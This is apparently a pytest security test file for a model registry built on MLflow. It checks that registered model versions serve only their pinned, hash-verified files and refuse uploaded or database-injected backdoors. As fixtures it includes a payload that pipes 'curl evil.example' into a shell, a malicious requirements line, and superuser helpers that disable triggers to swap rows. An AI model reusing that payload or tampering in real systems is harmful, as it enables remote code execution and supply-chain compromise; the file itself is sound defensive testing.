"""A registered version is exactly its pinned files (issue 16, section 3).

Each attack is driven as an attacker would: the stock mlflow client against a live server
(models:/ downloads go through get-download-uri and the mlflow-artifacts proxy) and the
/api/v1 routes; tampering with stored rows and blobs is done as a database superuser.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import mlflow
import psycopg
import pytest
import requests
from mlflow.tracking import MlflowClient  # noqa: E402
from psycopg import sql

from app.services.verification import verify_database  # noqa: E402

V1 = "/api/v1"
MODEL_BYTES = b"pickled weights of a genuine model"
EVIL = b"import os; os.system('curl evil.example | sh')\n"


def bearer(secret: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {secret}"}


@pytest.fixture
def people(admin_token: str, run_cli: Any) -> dict[str, str]:
    found = {"admin": admin_token}
    for who, name, role in (("writer", "alice", "writer"), ("approver", "risk-officer",
                                                             "approver")):
        done = run_cli("token", "create", "--name", name, "--role", role)
        assert done.returncode == 0, done.stderr
        found[who] = done.stdout.split()[-1]
    return found


@pytest.fixture
def ml(server: str, people: dict[str, str], monkeypatch: pytest.MonkeyPatch
       ) -> Iterator[MlflowClient]:
    """The stock client against the live server as the writer (as tests/mlflow/ points it)."""
    for name, value in {"MLFLOW_TRACKING_URI": server, "MLFLOW_TRACKING_TOKEN": people["writer"],
                        "MLFLOW_HTTP_REQUEST_MAX_RETRIES": "0",
                        "MLFLOW_HTTP_REQUEST_TIMEOUT": "60", "MLFLOW_DISABLE_TELEMETRY": "true",
                        "MLFLOW_SUPPRESS_PRINTING_URL_TO_STDOUT": "true"}.items():
        monkeypatch.setenv(name, value)
    for name in ("MLFLOW_TRACKING_USERNAME", "MLFLOW_TRACKING_PASSWORD", "MLFLOW_RUN_ID"):
        monkeypatch.delenv(name, raising=False)
    mlflow.set_tracking_uri(server)
    mlflow.set_registry_uri(server)
    yield MlflowClient(server, server)
    mlflow.set_tracking_uri(None)
    mlflow.set_registry_uri(None)


def _file(tmp_path: Path, name: str, data: bytes) -> str:
    path = tmp_path / "src" / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return str(path)


def approved_m1(ml: MlflowClient, client: Any, people: dict[str, str], tmp_path: Path) -> str:
    """Run with model/model.pkl, registered as m1 version 1 and approved to Production."""
    experiment = ml.create_experiment("credit")
    run_id = str(ml.create_run(experiment).info.run_id)
    ml.log_artifact(run_id, _file(tmp_path, "model.pkl", MODEL_BYTES), "model")
    ml.create_registered_model("m1")
    version = ml.create_model_version("m1", f"runs:/{run_id}/model", run_id=run_id)
    assert version.version == "1"
    promotion = client.post(f"{V1}/models/m1/versions/1/promotions",
                            headers=bearer(people["writer"]),
                            json={"target": "Production", "justification": "validated"})
    assert promotion.status_code == 201, promotion.json
    decided = client.post(f"{V1}/promotions/{promotion.json['id']}/decisions",
                          headers=bearer(people["approver"]),
                          json={"decision": "approve", "comment": "independent review"})
    assert decided.status_code == 200, decided.json
    assert ml.transition_model_version_stage("m1", "1", "Production").current_stage == \
        "Production"
    return run_id


def downloaded(uri: str, dst: Path) -> dict[str, bytes]:
    """Every file a models:/ download writes (relative path -> bytes), the client's own
    registered_model_meta aside."""
    out = Path(mlflow.artifacts.download_artifacts(uri, dst_path=str(dst)))
    return {str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*"))
            if p.is_file() and p.name != "registered_model_meta"}


def sneak_in(conn: psycopg.Connection, services: Any, run_id: str, path: str,
             data: bytes) -> None:
    """An artifact row under the pinned path that no upload can make any more: what a
    database from before the seal may hold (its bytes stored, the row added as superuser)."""
    blob = services.blobs.put_stream([data], 1 << 20)
    seq = conn.execute("SELECT seq, envelope_sha256 FROM artifacts WHERE run_id = %s",
                       (run_id,)).fetchone()
    conn.execute("INSERT INTO artifact_revisions (run_id, path, sha256, size, uri, "
                 "envelope_sha256, revision, seq) VALUES (%s, %s, %s, %s, NULL, %s, 1, %s)",
                 (run_id, path, blob.sha256, blob.size, seq[1], seq[0]))


def swap_row(conn: psycopg.Connection, run_id: str, path: str, sha256: str, size: int) -> None:
    """As superuser: the artifacts row of path now names other bytes."""
    conn.execute("ALTER TABLE artifacts DISABLE TRIGGER USER")
    try:
        conn.execute("UPDATE artifacts SET sha256 = %s, size = %s WHERE run_id = %s "
                     "AND path = %s", (sha256, size, run_id, path))
    finally:
        for (name,) in conn.execute("SELECT tgname FROM pg_trigger WHERE tgrelid = "
                                    "'artifacts'::regclass AND NOT tgisinternal").fetchall():
            conn.execute(sql.SQL("ALTER TABLE artifacts ENABLE ALWAYS TRIGGER {}").format(
                sql.Identifier(name)))


# ---- the attack as reported ----------------------------------------------------------------

def test_files_added_to_the_pinned_directory_are_refused_and_never_served(
        ml: MlflowClient, client: Any, people: dict[str, str], tmp_path: Path,
        conn: psycopg.Connection) -> None:
    run_id = approved_m1(ml, client, people, tmp_path)
    for name, data in (("backdoor.py", EVIL), ("requirements.txt", b"evil-package==6.6.6\n")):
        with pytest.raises(requests.HTTPError) as refused:  # the client's error for uploads
            ml.log_artifact(run_id, _file(tmp_path, name, data), "model")
        assert refused.value.response.status_code == 400
        assert refused.value.response.json() == {
            "error_code": "INVALID_PARAMETER_VALUE",
            "message": f"artifact 'model/{name}' of run {run_id} is pinned by model version "
                       "m1/1 (it pins 'model/'): a registered version is exactly the files it "
                       "pinned; record new files under another path, or register a new "
                       "version from a new run"}
    for uri in ("models:/m1/1", "models:/m1/Production"):
        files = downloaded(uri, tmp_path / uri.replace(":", "").replace("/", "_"))
        assert files == {"model.pkl": MODEL_BYTES}, uri
    assert [f.path for f in ml.list_artifacts(run_id, "model")] == ["model/model.pkl"]
    assert verify_database(conn).ok


def test_v1_uploads_and_external_records_into_a_pinned_path_are_refused(
        ml: MlflowClient, client: Any, people: dict[str, str], tmp_path: Path) -> None:
    run_id = approved_m1(ml, client, people, tmp_path)
    writer = bearer(people["writer"])
    for path in ("model/backdoor.py", "model/sub/requirements.txt", "model"):
        put = client.put(f"{V1}/runs/{run_id}/artifacts/{path}", data=EVIL, headers=writer)
        assert put.status_code == 409, (path, put.json)
        assert "is pinned by model version m1/1" in put.json["detail"], put.json
    external = client.post(f"{V1}/runs/{run_id}/artifacts/external", headers=writer, json={
        "path": "model/extra.bin", "uri": "s3://bucket/extra.bin", "sha256": "ab" * 32,
        "size": 3})
    assert external.status_code == 409 and "pinned by model version m1/1 (it pins 'model/')" \
        in external.json["detail"]
    # the same bytes at the pinned path again change nothing and stay accepted (a retry)
    again = client.put(f"{V1}/runs/{run_id}/artifacts/model/model.pkl", data=MODEL_BYTES,
                       headers=writer)
    assert again.status_code == 200 and again.json["unchanged"] is True
    # beside the pinned directory the run still takes new files
    beside = client.put(f"{V1}/runs/{run_id}/artifacts/model-card.md", data=b"card",
                        headers=writer)
    assert beside.status_code == 201, beside.json


# ---- downloads serve exactly the pin, re-hashed against the pinned digests -----------------

def test_rows_under_the_pinned_path_that_the_pin_lacks_are_not_served(
        ml: MlflowClient, client: Any, people: dict[str, str], tmp_path: Path,
        conn: psycopg.Connection, services: Any) -> None:
    run_id = approved_m1(ml, client, people, tmp_path)
    sneak_in(conn, services, run_id, "model/backdoor.py", EVIL)
    assert downloaded("models:/m1/Production", tmp_path / "out") == {"model.pkl": MODEL_BYTES}
    listed = client.get(f"{V1}/models/m1/versions/1/artifacts", headers=bearer(people["writer"]))
    assert listed.status_code == 200, listed.json
    assert [(a["path"], a["sha256"]) for a in listed.json["artifacts"]] == \
        [("model/model.pkl", hashlib.sha256(MODEL_BYTES).hexdigest())]
    extra = client.get(f"{V1}/models/m1/versions/1/artifacts/model/backdoor.py",
                       headers=bearer(people["writer"]))
    assert extra.status_code == 404 and "not pinned by m1 version 1" in extra.json["detail"]
    got = client.get(f"{V1}/models/m1/versions/1/artifacts/model/model.pkl",
                     headers=bearer(people["writer"]))
    assert got.status_code == 200 and got.data == MODEL_BYTES


def test_a_swapped_blob_and_row_is_refused_not_served(
        ml: MlflowClient, client: Any, people: dict[str, str], tmp_path: Path,
        conn: psycopg.Connection, services: Any) -> None:
    run_id = approved_m1(ml, client, people, tmp_path)
    pinned = hashlib.sha256(MODEL_BYTES).hexdigest()
    evil = services.blobs.put_stream([EVIL], 1 << 20)
    services.blobs.path(pinned).write_bytes(EVIL)  # the pinned blob's bytes replaced...
    swap_row(conn, run_id, "model/model.pkl", evil.sha256, evil.size)  # ...and its row
    with pytest.raises(Exception) as refused:
        downloaded("models:/m1/Production", tmp_path / "out")
    assert "no longer match the sha256 pinned by m1 version 1" in str(refused.value)
    got = client.get(f"{V1}/models/m1/versions/1/artifacts/model/model.pkl",
                     headers=bearer(people["writer"]))
    assert got.status_code == 409, got.status_code
    assert f"no longer match the sha256 pinned by m1 version 1 ({pinned})" in got.json["detail"]
    # the run's own path is held to its entry too, not to the swapped row
    for path in (f"{V1}/runs/{run_id}/artifacts/model/model.pkl",
                 f"/api/2.0/mlflow-artifacts/artifacts/{ml.get_run(run_id).info.experiment_id}/"
                 f"{run_id}/artifacts/model/model.pkl"):
        by_run = client.get(path, headers=bearer(people["writer"]))
        assert by_run.status_code == 409, (path, by_run.status_code)
        assert "differs from its ledger entry" in by_run.get_data(as_text=True)


def test_a_swapped_row_alone_still_serves_the_pinned_bytes(
        ml: MlflowClient, client: Any, people: dict[str, str], tmp_path: Path,
        conn: psycopg.Connection, services: Any) -> None:
    run_id = approved_m1(ml, client, people, tmp_path)
    evil = services.blobs.put_stream([EVIL], 1 << 20)
    swap_row(conn, run_id, "model/model.pkl", evil.sha256, evil.size)
    assert downloaded("models:/m1/1", tmp_path / "out") == {"model.pkl": MODEL_BYTES}


def test_get_download_uri_names_the_version_not_the_run(
        ml: MlflowClient, client: Any, people: dict[str, str], tmp_path: Path) -> None:
    run_id = approved_m1(ml, client, people, tmp_path)
    uri = ml.get_model_version_download_uri("m1", "1")
    assert run_id not in uri and "/model-versions/" in uri, uri
    # the version root lists the pinned files, and nothing can be written under it
    prefix = uri.removeprefix("mlflow-artifacts:/")
    listed = client.get(f"/api/2.0/mlflow-artifacts/artifacts?path={prefix}",
                        headers=bearer(people["writer"]))
    assert listed.json == {"files": [{"path": "model.pkl", "is_dir": False,
                                      "file_size": len(MODEL_BYTES)}]}
    put = client.put(f"/api/2.0/mlflow-artifacts/artifacts/{prefix}/backdoor.py", data=EVIL,
                     headers=bearer(people["writer"]))
    assert put.status_code == 400 and "sealed" in json.loads(put.data)["message"], put.data
